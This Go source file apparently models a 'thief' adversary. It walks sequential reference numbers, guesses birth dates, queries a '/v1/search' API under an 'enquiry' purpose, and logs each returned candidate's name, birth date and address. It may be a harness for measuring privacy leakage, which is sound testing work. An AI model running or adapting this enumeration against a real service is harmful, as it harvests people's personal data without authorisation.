package thief

import (
	"context"
	"encoding/json"
	"math/rand/v2"
	"time"
)

// highest is the last ref that ref can write.
const highest = 26*10_000_000 - 1

// search counts through refs, and guesses the birth that each search asks for.
func (t *thief) search(ctx context.Context, a *attempt) {
	r := rand.New(rand.NewPCG(3, 4))
	for n, failed := int64(1), 0; failed < patience && n <= highest; n++ {
		err := t.look(ctx, a, n, guessBirth(r))
		if final(ctx, err) {
			return
		}
		if failed++; err == nil {
			failed = 0
		}
		pause(ctx)
	}
}

func (t *thief) look(ctx context.Context, a *attempt, n int64, birth string) error {
	s := seat{t: t, token: t.config.Token, http: t.http}
	_, err := s.search(ctx, a, "C-2015", search{By: "ref", Value: ref(n), Birth: birth}, ref(n))
	return err
}

// search is a question for who matches.
type search struct {
	By    string `json:"by"`
	Value string `json:"value"`
	Birth string `json:"birth"`
}

// said are the fields that a search is for, beside the birth: of whom it shows they are
// what was said.
var said = map[string][]string{"number": {"number"}, "ref": {"ref"}, "name_birth": {"name"}}

// search asks who matches, and writes down each candidate's mask. ref is theirs, if
// it is known.
func (s seat) search(ctx context.Context, a *attempt, room string, q search, ref string) (participants []string, err error) {
	var got struct {
		Candidates []struct {
			Participant string `json:"participant"`
			Name        string `json:"name"`
			Birth       string `json:"birth"`
			Address     string `json:"address"`
		} `json:"candidates"`
	}
	a.tried.Add(1)
	in := struct {
		search
		Purpose string `json:"purpose"`
		Case    string `json:"case"`
	}{q, "enquiry", room}
	if err := s.post(ctx, "/v1/search", in, &got); err != nil {
		return nil, err
	}
	for _, c := range got.Candidates {
		mask, err := json.Marshal(map[string]string{"name": c.Name, "birth": c.Birth, "address": c.Address})
		if err != nil {
			return nil, err
		}
		a.obtainedAt(s.of.Device, &line{Attempt: a.name, Participant: c.Participant, Ref: ref, Fields: append([]string{"existence", "mask", "birth"}, said[q.By]...), Mask: mask})
		participants = append(participants, c.Participant)
	}
	return participants, nil
}

func pause(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(20 * time.Millisecond):
	}
}
